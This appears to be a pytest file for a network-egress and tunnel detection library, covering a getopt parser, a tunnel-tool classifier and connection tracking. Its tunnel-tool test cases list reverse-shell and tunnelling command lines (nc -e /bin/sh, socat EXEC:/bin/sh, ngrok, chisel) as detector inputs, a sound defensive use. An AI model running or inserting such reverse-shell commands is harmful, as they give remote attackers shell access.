from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vigiles.detectors.attempts import Attempts
from vigiles.detectors.destination import Destinations
from vigiles.detectors.getopt import getopt, getopt_around_host
from vigiles.detectors.memory import Recent
from vigiles.detectors.tool_argv import tunnel_tool
from vigiles.detectors.votes import Vote, Votes
from vigiles.model.stamp import Stamp


def test_memory_forgets_what_was_set_longest_ago() -> None:
    recent: Recent[int, str] = Recent(2)
    recent.set(1, "a")
    recent.set(2, "b")
    recent.set(1, "c")
    recent.set(3, "d")
    assert (recent.get(1), recent.get(2), recent.get(3), len(recent)) == ("c", None, "d", 2)
    assert recent.first_time(4, "e")
    assert not recent.first_time(4, "f")
    assert list(recent.values()) == ["d", "e"]
    assert (recent.pop(4), recent.pop(4)) == ("e", None)


def test_getopt_as_posix_has_it() -> None:
    assert getopt(["-ab", "x", "-c", "y", "-a"], "ab:c") == ([("a", None), ("b", "x"), ("c", None)], ["y", "-a"], False)
    assert getopt(["-bval", "--", "-a"], "ab:c") == ([("b", "val")], ["-a"], True)
    assert getopt(["-b"], "ab:c") == ([("b", None)], [], False)
    assert getopt(["-z:", "-"], "ab:c") == ([("z", None), (":", None)], ["-"], False)
    assert getopt_around_host(["h", "-a", "cmd", "-c"], "ab:c") == ([("a", None)], "h", ["cmd", "-c"])
    assert getopt_around_host(["--", "h", "-a"], "ab:c") == ([], "h", ["-a"])


@given(st.lists(st.text(alphabet="-abcR:x ", max_size=5), max_size=10))
def test_getopt_loses_no_operand_and_never_raises(words: list[str]) -> None:
    _, rest, _ = getopt(words, "ab:cR:")
    assert rest == words[len(words) - len(rest) :]


@pytest.mark.parametrize(
    "line",
    [
        "chisel client x:443 R:1",
        "./frpc -c f.ini",
        "ngrok tcp 22",
        "cloudflared tunnel run",
        "socat TCP:x:443 EXEC:/bin/sh",
        "socat exec:'bash -i',pty openssl-connect:x:443",
        "socat TCP:far.example:443 TCP:localhost:22",
        "nc -e /bin/sh x 443",
        "ncat --exec /bin/sh x 443",
    ],
)
def test_tunnel_tools(line: str) -> None:
    argv = line.split()
    assert tunnel_tool(argv[0], argv)


@pytest.mark.parametrize(
    "line",
    [
        "ngrok --help",
        "chisel --help",
        "socat -V",
        "socat TCP-LISTEN:80 TCP:a:80",
        "socat - TCP:a:80",
        "nc -z a 80",
        "nc -lp 80",
        "ls -lt",
        "x",
    ],
)
def test_benign_twins_of_tunnel_tools(line: str) -> None:
    argv = line.split()
    assert tunnel_tool(argv[0], argv) is None


def test_destinations_speak_of_one_place_by_one_name(make: Any) -> None:
    destinations = Destinations()
    destinations.feed(make.dns("A.example.", answers=["203.0.113.1", "203.0.113.2"]))
    destinations.feed(make.flow("b.example", 443, address="203.0.113.3"))
    destinations.feed(make.connect("203.0.113.4", 443, host="203.0.113.4"))
    assert destinations.cause(1, "203.0.113.2", 80) == destinations.cause(1, "a.EXAMPLE", 80) == "egress:1:a.example:80"
    assert destinations.name("203.0.113.3") == "b.example"
    assert destinations.name("203.0.113.4") == "203.0.113.4"
    assert destinations.cause(None, "x", 1) == "egress:-:x:1"


def test_attempts_count_places_in_the_window_of_one_boot() -> None:
    def at(us: int, boot: str = "b") -> Stamp:
        return Stamp(wall_us=us, mono_us=us, boot=boot)

    attempts = Attempts(1000, 10)
    attempts.add(at(0), "h", 1, "r0")
    attempts.add(at(1), "h", 1, "r1")
    attempts.add(at(900), "h", 2, "r2")
    attempts.add(at(900), "g", 2, "r3")
    assert [len(attempts.all()), len(attempts.ports_of("h")), len(attempts.hosts_at(2))] == [3, 2, 2]
    attempts.add(at(1500), "f", 3, "r4")
    assert [item.record for item in attempts.all()] == ["r2", "r3", "r4"]
    attempts.add(at(1600, "other"), "f", 3, "r5")
    assert [item.record for item in attempts.all()] == ["r5"]


def test_votes_need_a_deliberate_kind_and_are_told_once() -> None:
    votes = Votes()
    assert votes.cast(1, Vote("destination", "d", "r1", 1)) == []
    assert votes.cast(1, Vote("initiative", "i", "r2", 2)) == []
    assert {vote.kind for vote in votes.cast(1, Vote("argv", "a", "r3", 3))} == {"destination", "initiative", "argv"}
    assert votes.cast(1, Vote("argv", "b", "r4", 4)) == []
